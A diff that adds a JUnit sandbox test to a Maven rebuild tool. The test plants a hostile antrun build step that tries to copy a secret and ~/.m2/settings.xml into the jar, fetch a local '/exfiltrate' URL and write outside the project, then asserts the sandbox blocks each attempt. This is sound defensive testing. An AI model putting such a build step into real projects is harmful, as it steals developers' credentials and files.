@@ -205,6 +205,64 @@ class MavenRebuildTest {
     }
 
     @Test
+    void aMavenBuildTryingToReadASecretReachTheNetworkOrWriteOutsideGetsNothing() throws Exception {
+        Path planted = Path.of("target", "planted-" + java.util.UUID.randomUUID()).toAbsolutePath();
+        Files.createDirectories(planted);
+        String token = "secret-" + java.util.UUID.randomUUID();
+        Files.writeString(planted.resolve("secret.txt"), token);
+        java.util.concurrent.atomic.AtomicInteger requests = new java.util.concurrent.atomic.AtomicInteger();
+        com.sun.net.httpserver.HttpServer listener = com.sun.net.httpserver.HttpServer.create(
+                new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
+        listener.createContext("/", ex -> {
+            requests.incrementAndGet();
+            ex.sendResponseHeaders(200, -1);
+            ex.close();
+        });
+        listener.start();
+        // The build's own code (an antrun step bound to generate-resources) tries each escape and carries on.
+        String escape = """
+                      <plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-antrun-plugin</artifactId>
+                        <version>3.1.0</version>
+                        <executions><execution><id>escape</id><phase>generate-resources</phase><goals><goal>run</goal></goals>
+                          <configuration><target>
+                            <copy file="%1$s/secret.txt" tofile="${project.build.outputDirectory}/leaked-secret.txt" failonerror="false"/>
+                            <copy file="%2$s/.m2/settings.xml" tofile="${project.build.outputDirectory}/leaked-settings.xml" failonerror="false"/>
+                            <get src="http://127.0.0.1:%3$d/exfiltrate" dest="${project.build.directory}/got" ignoreerrors="true"/>
+                            <copy file="${basedir}/pom.xml" tofile="%1$s/escaped.xml" failonerror="false"/>
+                            <echo file="${project.build.outputDirectory}/escape-attempted.txt" message="ran"/>
+                          </target></configuration>
+                        </execution></executions>
+                      </plugin>
+                    </plugins>""".formatted(planted, System.getProperty("user.home"), listener.getAddress().getPort());
+        java.util.SortedMap<String, byte[]> files = MavenProject.files("1.0.0");
+        String pom = MavenProject.pom("1.0.0").replace("    </plugins>", escape);
+        assertTrue(pom.contains("maven-antrun-plugin"), pom);
+        files.put("pom.xml", pom.getBytes(StandardCharsets.UTF_8));
+        try (GitHistoryBuilder hostile = GitHistoryBuilder.init(dir.resolve("hostile"))) {
+            String c = hostile.commit(files, "release 1.0.0", Instant.parse("2026-01-01T00:00:00Z"));
+            byte[] jar = MavenProject.publish(env, hostile.dir(), c, "1.0.0", dir.resolve("hostile-publisher"));
+            List<String> entries = dev.divergence.archive.ArchiveReaders.read(writeTemp(jar), ArchiveLimits.defaults())
+                    .files().stream().map(f -> f.path()).toList();
+            // The escape step ran (its marker is in the jar) and the build ran to its end.
+            assertTrue(entries.contains("escape-attempted.txt") && entries.contains("org/acme/Greeter.class"),
+                    entries.toString());
+            assertFalse(entries.stream().anyMatch(e -> e.contains("leaked")), entries.toString());
+            assertFalse(new String(jar, StandardCharsets.ISO_8859_1).contains(token));
+            assertEquals(0, requests.get(), "the build reached a server on this machine");
+            assertFalse(Files.exists(planted.resolve("escaped.xml")));
+        } finally {
+            listener.stop(0);
+            Sandbox.deleteTree(planted);
+        }
+    }
+
+    private Path writeTemp(byte[] bytes) throws IOException {
+        Path p = Files.createTempFile(dir, "jar", ".jar");
+        Files.write(p, bytes);
+        return p;
+    }
+
+    @Test
     void aJdkThisMachineLacksIsUnsupportedEnvSayingWhich() throws Exception {
         byte[] jdk21 = MavenProject.rewrite(published, (name, bytes) -> name.equals("META-INF/MANIFEST.MF")
                 ? new String(bytes, StandardCharsets.UTF_8).replace("Build-Jdk-Spec: 17", "Build-Jdk-Spec: 21")
